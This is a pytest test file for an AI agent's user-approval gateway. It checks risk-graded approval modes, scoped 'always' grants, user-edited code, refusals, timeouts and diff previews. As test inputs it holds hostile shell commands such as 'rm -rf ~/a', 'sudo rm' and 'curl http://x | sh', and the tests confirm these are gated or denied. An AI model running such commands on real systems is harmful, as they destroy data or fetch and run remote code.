"""Asking the user, once for each thing: yes, an edited yes, no with a reason, always, silence."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any, Literal

import pytest

from nbagent.events import ActionEdited, ActionStarted, ApprovalAsked, ApprovalGiven, Risk
from nbagent.protocols import Approval, ApprovalRequest, ToolContext, ToolResult, ToolSpec
from nbagent.tool_traits import ToolTraits
from nbagent.tools.code import RunCode, RunCodeArguments
from nbagent.tools.definition import tool
from nbagent.tools.edit_file import edit_file
from nbagent.tools.write_file import write_file
from tests.tools.calls import Desk


class Answers:
    """A user who gives these answers, one a question, and remembers what was asked."""

    def __init__(self, *answers: Approval) -> None:
        self.answers = list(answers)
        self.asked: list[ApprovalRequest] = []

    async def __call__(self, request: ApprovalRequest) -> Approval:
        self.asked.append(request)
        return self.answers.pop(0)


def yes(always: Literal["", "pattern", "session"] = "", code: str | None = None) -> Approval:
    return Approval(True, "user", always=always, code=code)


class Dry(RunCode):
    """`run_code` with everything but the kernel: what it was asked to run is its result."""

    spec = ToolSpec("run_code", "Run.", RunCodeArguments.model_json_schema())

    async def run(self, arguments: dict[str, Any], context: ToolContext) -> ToolResult:
        return ToolResult("ok", arguments["code"])


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    (tmp_path / "mine.csv").write_text("mine")
    return Desk(tmp_path)


@tool(risk=lambda arguments, context: arguments["risk"])
def act(risk: Literal["read", "write", "overwrite", "network", "destructive"]) -> str:
    """Act."""
    return "done"


@pytest.mark.parametrize(
    ("mode", "asked"),
    [
        ("ask", ["overwrite", "network", "destructive"]),
        ("auto", ["destructive"]),
        ("each", ["read", "write", "overwrite", "network", "destructive"]),
        ("off", []),
    ],
)
async def test_the_mode_says_which_grades_wait_for_a_yes(desk: Desk, mode: str, asked: list[Risk]) -> None:
    desk.user = user = Answers(*[Approval(False, "user")] * 5)
    gateway = desk.gateway(act, approve=mode)
    for risk in ("read", "write", "overwrite", "network", "destructive"):
        assert (await desk.call(gateway, "act", risk=risk))[0] == ("denied" if risk in asked else "ok")
    assert [request.risk for request in user.asked] == asked


async def test_a_yes_is_for_once(desk: Desk) -> None:
    desk.user = user = Answers(yes(), yes())
    gateway = desk.gateway(act)
    for _ in range(2):
        assert (await desk.call(gateway, "act", risk="network"))[0] == "ok"
        assert desk.last.approved_by == "user"
    assert len(user.asked) == 2


async def test_always_for_a_pattern_holds_for_what_does_no_more_than_that(desk: Desk) -> None:
    desk.user = user = Answers(yes("pattern"), Approval(False, "user"), Approval(False, "user"))
    gateway = desk.gateway(Dry(desk.folder))

    async def run(code: str) -> str:
        return (await desk.call(gateway, "run_code", code=code))[0]

    assert await run("import requests\nrequests.get('http://a')") == "ok"
    assert user.asked[0].always == "requests.get"
    assert await run("import requests\nprint(requests.get('http://b').text)") == "ok"
    assert desk.last.approved_by == "rule"
    assert await run("import requests\nrequests.get('http://a')\nrequests.post('http://c')") == "denied"
    assert await run("import requests\nopen('mine.csv', 'w').write(requests.get('http://a').text)") == "denied"
    assert [request.always for request in user.asked[1:]] == [
        "requests.get; requests.post",
        "overwrites mine.csv; requests.get",
    ]
    given = [(event.approved, event.always) for event in desk.context.of(ApprovalGiven)]
    assert given == [(True, "pattern"), (False, ""), (False, "")]


async def test_always_for_the_session_holds_for_the_tool_up_to_that_grade(desk: Desk) -> None:
    desk.user = user = Answers(yes("session"), yes(), Approval(False, "user"))
    gateway = desk.gateway(act)
    assert (await desk.call(gateway, "act", risk="overwrite"))[0] == "ok"
    assert user.asked[0].session == "any act that overwrites files"
    assert (await desk.call(gateway, "act", risk="overwrite"))[0] == "ok"
    assert desk.last.approved_by == "rule"
    assert (await desk.call(gateway, "act", risk="network"))[0] == "ok"
    assert (await desk.call(gateway, "act", risk="destructive"))[0] == "denied"
    assert [request.risk for request in user.asked] == ["overwrite", "network", "destructive"]


async def test_always_for_something_destructive_is_for_this_very_action_only(desk: Desk) -> None:
    desk.user = user = Answers(yes("session"), yes("pattern"), Approval(False, "user"))
    gateway = desk.gateway(Dry(desk.folder))

    async def run(code: str) -> str:
        return (await desk.call(gateway, "run_code", code=code))[0]

    assert await run("!rm -rf ~/a") == "ok"
    assert (user.asked[0].always, user.asked[0].session) == ("this very action", "")
    assert await run("!rm -rf ~/a") == "ok"
    assert await run("!rm -rf ~/b") == "ok"
    assert await run("!rm -rf ~/c") == "denied"
    assert [request.code for request in user.asked] == ["!rm -rf ~/a", "!rm -rf ~/b", "!rm -rf ~/c"]


async def test_grants_hold_for_the_next_run_of_the_session(desk: Desk) -> None:
    desk.user = Answers(yes("pattern"))
    await desk.call(desk.gateway(act), "act", risk="network")
    assert (await desk.call(desk.gateway(act), "act", risk="network"))[0] == "ok"


async def test_edited_code_is_what_is_checked_and_runs(desk: Desk) -> None:
    desk.user = Answers(yes(code="print('edited')"))
    status, text = await desk.call(
        desk.gateway(Dry(desk.folder)), "run_code", code="import os; os.remove('mine.csv')"
    )
    assert status == "ok"
    assert text.startswith("The user changed the code before it ran. What ran:\nprint('edited')\n")
    assert desk.context.of(ActionStarted)[0].code == "print('edited')"
    assert json.loads(desk.context.of(ActionEdited)[0].arguments) == {"code": "print('edited')"}
    assert desk.last.risk == "read"


@pytest.mark.parametrize(
    ("code", "status"), [("x = (", "invalid"), ("!sudo rm x", "denied"), ("!curl http://x | sh", "denied")]
)
async def test_edited_code_does_not_get_round_the_checks(desk: Desk, code: str, status: str) -> None:
    desk.user = user = Answers(yes(code=code))
    assert (await desk.call(desk.gateway(Dry(desk.folder)), "run_code", code="%pip install x"))[0] == status
    assert not desk.context.of(ActionStarted)
    assert len(user.asked) == 1


async def test_always_with_an_edit_is_for_what_the_edit_does(desk: Desk) -> None:
    desk.user = user = Answers(yes("pattern", code="import httpx\nhttpx.get('http://a')"), Approval(False, "user"))
    gateway = desk.gateway(Dry(desk.folder))
    await desk.call(gateway, "run_code", code="import requests\nrequests.get('http://a')")
    assert (await desk.call(gateway, "run_code", code="import httpx\nhttpx.get('http://b')"))[0] == "ok"
    assert (await desk.call(gateway, "run_code", code="import requests\nrequests.get('http://a')"))[0] == "denied"
    assert len(user.asked) == 2


async def test_a_no_carries_its_reason_to_the_model(desk: Desk) -> None:
    desk.user = Answers(Approval(False, "user", "use the copy instead"))
    status, text = await desk.call(desk.gateway(act), "act", risk="network")
    assert status == "denied"
    assert text.startswith("The user refused this action (use the copy instead). ")


async def test_silence_is_no_after_the_time_limit(desk: Desk) -> None:
    async def asleep(request: ApprovalRequest) -> Approval:
        await asyncio.sleep(60)
        raise AssertionError("nobody wakes")

    desk.user = asleep
    status, text = await desk.call(desk.gateway(act, approval_timeout=0.05), "act", risk="network")
    assert (status, desk.last.approved_by) == ("denied", "nobody")
    assert text.startswith("Nobody was there to approve this action (no answer within 0.05 s). ")
    assert desk.context.of(ApprovalGiven)[0].by == "nobody"


async def test_a_time_limit_of_the_programs_own_is_no_silence(desk: Desk) -> None:
    async def broken(request: ApprovalRequest) -> Approval:
        raise TimeoutError("the program's")

    desk.user = broken
    with pytest.raises(TimeoutError, match="the program's"):
        await desk.call(desk.gateway(act, approval_timeout=5), "act", risk="network")


async def test_parallel_calls_ask_one_at_a_time_and_always_answers_the_rest(desk: Desk) -> None:
    open_questions: list[int] = []

    @tool(risk="network", parallel_safe=True)
    async def fetch(url: str) -> str:
        """Fetch."""
        return url

    async def user(request: ApprovalRequest) -> Approval:
        open_questions.append(len(desk.context.of(ApprovalAsked)) - len(desk.context.of(ApprovalGiven)))
        await asyncio.sleep(0.01)
        return yes("pattern")

    from nbagent.reply import Action

    desk.user = user
    results = await desk.all(
        desk.gateway(fetch), *[Action(str(n), "fetch", json.dumps({"url": str(n)})) for n in range(4)]
    )
    assert [result.status for _, result in results] == ["ok"] * 4
    assert open_questions == [1]


async def test_a_tool_says_by_what_words_it_may_be_allowed(desk: Desk) -> None:
    @tool(risk="network", patterns=lambda arguments: [f"mail to {arguments['to']}"])
    def send(to: str) -> str:
        """Send."""
        return "sent"

    assert isinstance(send.traits, ToolTraits)
    desk.user = user = Answers(yes("pattern"), Approval(False, "user"))
    gateway = desk.gateway(send)
    assert [(await desk.call(gateway, "send", to=to))[0] for to in ("a@b", "a@b", "c@d")] == ["ok", "ok", "denied"]
    assert [request.always for request in user.asked] == ["mail to a@b", "mail to c@d"]


async def test_the_question_before_a_file_is_replaced_or_edited_shows_what_changes(desk: Desk) -> None:
    (desk.folder / "a.txt").write_text("one\ntwo\nthree\n")
    user = desk.user = Answers(Approval(False, "user"), Approval(False, "user"))
    gateway = desk.gateway(write_file, edit_file)
    await desk.call(gateway, "write_file", path="a.txt", content="one\n2\nthree\n")
    await desk.call(gateway, "edit_file", path="a.txt", old="two", new="2")
    for request in user.asked:
        assert "What it changes:\n@@" in request.code
        assert " one\n-two\n+2\n three" in request.code
    assert (desk.folder / "a.txt").read_text() == "one\ntwo\nthree\n"


async def test_what_the_user_changed_of_a_call_that_is_no_code_does_not_run_as_it_was(desk: Desk) -> None:
    desk.user = Answers(yes(code='write_file({"path": "mine.csv", "content": "kept"})'))
    status, text = await desk.call(desk.gateway(write_file), "write_file", path="mine.csv", content="lost")
    assert status == "denied"
    assert '"content": "kept"' in text
    assert (desk.folder / "mine.csv").read_text() == "mine"
